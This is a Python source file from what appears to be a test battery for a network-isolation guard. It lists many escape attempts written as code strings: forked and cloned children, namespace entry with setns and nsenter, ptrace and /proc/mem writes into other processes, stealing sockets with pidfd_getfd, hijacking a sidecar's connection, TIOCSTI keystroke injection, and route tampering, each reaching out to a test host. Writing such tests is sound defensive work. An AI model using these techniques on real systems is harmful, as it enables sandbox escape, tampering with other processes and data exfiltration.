"""Ways by other processes: children, other namespaces, another process's memory and descriptors, filters, users.

A program whose attack is refused goes on to connect by itself: the guard must still be there to name it. It says so
then, and without a guard that counts for nothing. Numbers without a name are those of the kernel's headers:
linux/sched.h, linux/prctl.h, linux/seccomp.h, asm-generic/unistd.h.
"""

from __future__ import annotations

from collections.abc import Mapping

from airgap.battery.way import Way

PLAINLY = "goes on plainly"
"""What a program says whose attack gained nothing."""
_HEAD = f"""
def plainly():
    print({PLAINLY!r}, flush=True)
    speak()
"""
UNREADABLE = {
    "both": "the program forbids to read its memory; the report says that an address could not be read"
}
_END = {"both": "the guard has ended, so nothing can report it"}
_LACKS_USERS = """
if os.getuid(): lacks("only root changes its user")
try: os.setresgid(1234, 1234, 1234); os.setresuid(1234, 1234, 1234)
except OSError: lacks("no other user is mapped here")
"""
_DOUBLE = "if os.fork(): os.wait()\nelif os.fork() == 0:\n    os.setsid(); speak()\n"
_CLONE3 = """
arguments = ctypes.create_string_buffer(struct.pack("8Q", 0, 0, 0, 0, 17, 0, 0, 0))
if call(435, ctypes.addressof(arguments), 64) == 0:
    speak(); os._exit(0)
"""
_OWN_FILES = """
def work():
    if libc.unshare(0x400): return  # CLONE_FILES: its descriptors are its own
    speak()
thread = threading.Thread(target=work); thread.start(); thread.join()
"""
_PASSED = """
ours, theirs = socket.socketpair()
one = socket.socket()
if os.fork() == 0:
    _, fds, _, _ = socket.recv_fds(theirs, 9, 1)
    with socket.socket(fileno=fds[0]) as two:
        two.connect((OUT, PORT)); two.send(WORD)
    os._exit(0)
socket.send_fds(ours, [b"."], [one.fileno()])
"""
_MEMORY_FILE = """
fd = os.memfd_create("program"); os.write(fd, open(compiled(), "rb").read())
if os.fork() == 0: os.execve(fd, ["x", "connect", WORD.decode(), OUT, str(PORT)], {})
"""
_SETUID = """
program = "/tmp/attacks-of-root"
if not os.path.exists(program): lacks("no other user is mapped here, or there is no C compiler")
subprocess.run([program, "connect", WORD.decode(), OUT, str(PORT)])
"""
_NEW_USER = """
if os.fork() == 0:
    uid = os.getuid()
    with trying():
        if libc.unshare(0x10000000) == 0:
            for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1")):
                with open(f"/proc/self/{name}", "w") as file: file.write(text)
    speak()
    os._exit(0)
"""
_ENTER = """
for kind in ("user", "mnt", "net"):
    with trying():
        fd = os.open(f"/proc/{PROCESS}/ns/{kind}", os.O_RDONLY)
        libc.setns(fd, 0)
speak()
"""
_ENTER_ALL = """
process = call(434, PROCESS, 0)
for kinds in (0x40000000, 0x10000000 | 0x40000000 | 0x00020000):
    libc.setns(process, kinds)
speak()
"""
_NSENTER = """
words = ["python3", "-c", f"import socket; socket.create_connection(({OUT!r}, {PORT}), 3).send({WORD!r})"]
for namespaces in (["-n"], ["-U", "--preserve-credentials", "-n"]):
    with trying():
        subprocess.run(["nsenter", "-t", str(PROCESS), *namespaces, sys.executable, *words[1:]], timeout=5)
speak()
"""
_LINK = """
words = ["ip", "link", "add", f"way{NUMBER}", "type", "veth", "peer", "name", f"yaw{NUMBER}", "netns", "1"]
if subprocess.run(words, stderr=subprocess.DEVNULL).returncode: plainly()
"""
_ROUTES = """
for words in ("route del local 0.0.0.0/0 dev lo table local", "rule add from all lookup main pref 0"):
    subprocess.run(["ip", *words.split()], stderr=subprocess.DEVNULL)
speak()
"""
_REGISTERS = """
said = attack("registers", WORD.decode(), OUT, PORT, PROCESS); print(said)
if "refused" in said: plainly()
"""
_VECTORS = """
class Vector(ctypes.Structure):
    _fields_ = (("at", ctypes.c_void_p), ("length", ctypes.c_size_t))
facts = bystander()
port = ctypes.c_uint16(PORT)
mine, its = Vector(ctypes.addressof(port), 2), Vector(facts["slots"], 2)
if libc.process_vm_writev(facts["process"], ctypes.byref(mine), 1, ctypes.byref(its), 1, 0) == 2: bystander()
else: plainly()
"""
_MEMORY = """
facts = bystander()
try:
    with open(f"/proc/{facts['process']}/mem", "r+b", buffering=0) as memory:
        memory.seek(facts["slots"] + 2); memory.write(struct.pack("=H", PORT))
    bystander()
except OSError: plainly()
"""
_POKED = """
facts = bystander()
libc.ptrace.restype = ctypes.c_long
its = facts["process"]
if libc.ptrace(16, its, None, None) == 0:  # PTRACE_ATTACH
    os.waitpid(its, 0x40000000)
    libc.ptrace(5, its, ctypes.c_void_p(facts["slots"] + 8), ctypes.c_void_p(PORT))  # PTRACE_POKEDATA
    libc.ptrace(17, its, None, None); bystander()
else: plainly()
"""
_TAKEN = """
facts = bystander()
fd = call(438, call(434, facts["process"], 0), {number}, 0)  # pidfd_getfd(pidfd_open())
if fd >= 0: socket.socket(fileno=fd).send(WORD)
else: plainly()
"""
_SIDECARS = """
import glob
process, gained = call(434, sidecar(), 0), False
ask_door("GET", BASE + "/api/version")
for number in range(3, 64):
    fd = call(438, process, number, 0)
    if fd < 0: continue
    with trying(), socket.socket(fileno=fd) as one:
        if one.family == 2 and one.getpeername()[1] == 11434:
            one.send(b"POST /api/pull HTTP/1.1\\r\\nHost: localhost\\r\\nContent-Length: 18\\r\\n\\r\\n"
                     + b'{"model":"%s"}  ' % WORD)
            gained = True
if not gained: plainly()
"""
_LISTENER = "attack('listener', WORD.decode(), OUT, PORT)"
_STOPPED = """
os.kill(GUARD, signal.SIGSTOP)
if os.fork() == 0:
    speak(); os._exit(0)
select.select([], [], [], 0.3)
os.kill(GUARD, signal.SIGCONT)
os.wait()
"""
_UNDUMPABLE = "libc.prctl(4, 0, 0, 0, 0)\nspeak()\n"
_NO_DEATH = "libc.prctl(36, 1, 0, 0, 0)\n" + _DOUBLE


def _process(
    name: str, code: str, kind: str = "processes", silent: Mapping[str, str] | None = None
) -> Way:
    return Way(name, kind, _HEAD + code, silent=silent or {})


CHILDREN = (
    _process("child", "if os.fork() == 0: speak(); os._exit(0)"),
    _process("double-fork", _DOUBLE),
    _process("own-reaper", _NO_DEATH),
    _process("new-session", "if os.fork() == 0: os.setsid(); speak(); os._exit(0)"),
    _process("thread", "thread = threading.Thread(target=speak); thread.start(); thread.join()"),
    _process("clone3", _CLONE3),
    _process("own-descriptors", _OWN_FILES),
    _process("passed", _PASSED),
    _process("isolated-python", "subprocess.run([sys.executable, '-I', '-S', '-c', f'import socket;"
             " socket.create_connection((\"{OUT}\", {PORT}), 3)'])"),
    _process("memory-file", _MEMORY_FILE),
    _process("undumpable", _UNDUMPABLE, silent=UNREADABLE),
    _process("undumpable-udp", "libc.prctl(4, 0, 0, 0, 0)\nspeak(kind=2)\n", silent=UNREADABLE),
    _process("other-user", _LACKS_USERS + "speak()", "users"),
    _process("other-user-udp", _LACKS_USERS + "speak(kind=2)", "users"),
    _process("setuid", _SETUID, "users"),
)  # fmt: skip

_PLACES = (
    ("guards", "PROCESS = GUARD\n"),
    ("first", "PROCESS = 1\n"),
    ("bystanders", "PROCESS = bystander()['process']\n"),
)

NAMESPACES = (
    _process("new-user", _NEW_USER, "namespaces"),
    *(_process(f"{name}-namespaces", process + _ENTER, "namespaces") for name, process in _PLACES),
    *(
        _process(f"{name}-namespaces-at-once", process + _ENTER_ALL, "namespaces")
        for name, process in _PLACES
    ),
    _process("nsenter", "PROCESS = GUARD\n" + _NSENTER, "namespaces"),
    _process("nsenter-first", "PROCESS = 1\n" + _NSENTER, "namespaces"),
    _process("netlink", _LINK, "netlink"),
)

OTHERS = (
    _process("guards-registers", "PROCESS = GUARD\n" + _REGISTERS, "tracing"),
    _process("sidecars-registers", "PROCESS = sidecar()\n" + _REGISTERS, "tracing"),
    _process("bystanders-registers", "PROCESS = bystander()['process']\n" + _REGISTERS, "tracing"),
    _process("bystanders-memory", _MEMORY, "tracing"),
    _process("bystanders-memory-by-call", _VECTORS, "tracing"),
    _process("bystanders-memory-by-trace", _POKED, "tracing"),
    _process(
        "bystanders-connection", _TAKEN.format(number="facts['connections'][0]"), "descriptors"
    ),
    _process("bystanders-datagrams", _TAKEN.format(number="facts['datagrams']"), "descriptors"),
    _process("sidecars-connection", _SIDECARS, "descriptors"),
)

FILTERS = (
    _process("second-listener", _LISTENER, "filters"),
    _process("stopped-guard", _STOPPED, "the guard's end"),
)

_LATER = "if is_left_behind():\n    wait_for_end_of(GUARD)\n    {then}\n"


def _after(name: str, then: str, stage: str) -> Way:
    return Way(name, "the guard's end", _LATER.format(then=then), silent=_END, stage=stage)


AFTER_ITS_END = (
    _after("left-behind", "speak()", "end"),
    _after("left-behind-udp", "speak(kind=2)", "end"),
    _after("left-behind-name", "socket.getaddrinfo(f'{WORD.decode()}.example.com', 80)", "end"),
)

AFTER_ITS_KILLING = (
    _after("killed", "speak()", "killed"),
    _after("killed-udp", "speak(kind=2)", "killed"),
    _after("killed-fast-open", "socket.socket().sendto(WORD, 0x20000000, (OUT, PORT))", "killed"),
    _after("killed-name", "socket.getaddrinfo(f'{WORD.decode()}.example.com', 80)", "killed"),
    _after("killed-listener", _LISTENER, "killed"),
    _after("killed-new-user", "libc.unshare(0x10000000); speak()", "killed"),
    Way("killed-socket", "the guard's end", _LATER.format(then="unix('/run/podman/killed.sock')"), silent=_END,
        stage="killed", sockets=("/run/podman/killed.sock stream",)),
    Way("killed-sidecar-first", "the guard's end",
        _LATER.format(then="speak()") + "else:\n    os.kill(sidecar(), 9)\n", silent=_END, stage="killed"),
)  # fmt: skip
_TYPED = {"both": "keys that are put into a terminal name no place"}
_KEYS = """
def raise_error(): raise OSError(ctypes.get_errno(), "ioctl")
number = {{"x86_64": 16, "aarch64": 29}}[os.uname().machine]
for fd in (0, os.open("/dev/tty", os.O_RDWR)):
    for letter in WORD + b"\\n":
        key = ctypes.create_string_buffer(bytes([letter]), 1)
        if call(number, fd, {request}, ctypes.addressof(key)): raise_error()
"""


def _keys(name: str, request: str) -> Way:
    code = _KEYS.format(request=request)
    return Way(name, "the terminal", code, silent=_TYPED, stage="keys")


KEYS = (
    _keys("keys", "0x5412"),  # TIOCSTI, asm-generic/ioctls.h
    _keys("keys-long-number", "0x5412 | 0x7FFFFFFF << 32"),
    _keys("keys-of-console", "0x541C"),  # TIOCLINUX
)

ROUTES = (_process("netlink-routes", _ROUTES, "netlink"),)
"""Is tried after all others: without its routes the network of the inside shows no attempt."""

WAYS = (*KEYS, *CHILDREN, *NAMESPACES, *OTHERS, *FILTERS, *AFTER_ITS_END, *AFTER_ITS_KILLING)
